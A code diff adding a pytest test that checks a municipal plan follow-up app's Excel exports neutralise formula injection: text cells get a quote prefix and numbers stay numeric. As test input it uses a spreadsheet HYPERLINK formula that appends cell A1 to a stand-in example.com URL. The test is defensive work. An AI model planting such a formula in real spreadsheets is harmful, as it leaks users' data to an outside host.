@@ -161,3 +161,63 @@ def test_the_plan_without_a_period_has_the_targets(stockholm):
     assert {k: Decimal(str(v)) for k, v in shown.items()} == {
         k: v for k, v in targets.items() if v is not None
     }
+
+
+def test_text_that_would_be_a_formula_stays_text_and_numbers_stay_numbers(stockholm):
+    """CSV injection in Excel: openpyxl would store a text beginning with = as a formula. Every
+    text cell is stored as text, and one that begins with = + - @ has Excel's quote prefix; the
+    text itself is unchanged (the template reads back as it was), numbers are numbers."""
+    period = stockholm.period("t2")
+    formula = '=HYPERLINK("https://example.com/?q="&A1,"Klicka")'
+    goal = Goal.objects.filter(unit=unit(stockholm)).in_force(2026).first()
+    goal.title = formula
+    goal.save()
+    assessment_submit(
+        goal=goal,
+        period=period,
+        value=stockholm.scale("delvis"),
+        analysis="-10 % mot förra året.",
+        motivation="@enheten",
+        corrective_actions=[
+            CorrectiveActionInput("Fler anhörigmöten", "Avdelningschefen", period.ends_on)
+        ],
+    )
+    indicator = stockholm.get(Indicator, "SOD-I1")
+    measurement_report(
+        indicator=indicator,
+        period=period,
+        values={"T": "-3,5", "K": 2, "M": 1},
+        forecast=-4,
+        comment="+ fler platser",
+    )
+
+    workbook = load_workbook(
+        io.BytesIO(plan_followup_xlsx(unit=unit(stockholm), year=2026, period=period))
+    )
+    sheet = workbook["Mål"]
+    headers = [c.value for c in sheet[1]]
+    line = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("Kod")].value == goal.code)
+    for header, text in (
+        ("Mål", formula),
+        ("Analys", "-10 % mot förra året."),
+        ("Motivering", "@enheten"),
+    ):
+        cell = line[headers.index(header)]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), header
+    assert line[headers.index("Kod")].quotePrefix is False
+    sheet = workbook["Indikatorer"]
+    headers = [c.value for c in sheet[1]]
+    line = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("Kod")].value == "SOD-I1")
+    total, forecast = line[headers.index("Utfall, totalt")], line[headers.index("Prognos helår")]
+    assert (total.value, total.data_type, total.quotePrefix) == (-3.5, "n", False)
+    assert (forecast.value, forecast.data_type) == (-4, "n")
+    comment = line[headers.index("Kommentar")]
+    assert (comment.value, comment.data_type, comment.quotePrefix) == ("+ fler platser", "s", True)
+
+    template = load_workbook(io.BytesIO(import_template_xlsx(unit=unit(stockholm), period=period)))
+    sheet = template["Utfall"]
+    line = next(
+        r for r in sheet.iter_rows(min_row=2) if (r[2].value, r[5].value) == ("SOD-I1", "T")
+    )
+    assert (line[7].value, line[7].data_type) == (-3.5, "n")
+    assert (line[9].value, line[9].data_type, line[9].quotePrefix) == ("+ fler platser", "s", True)
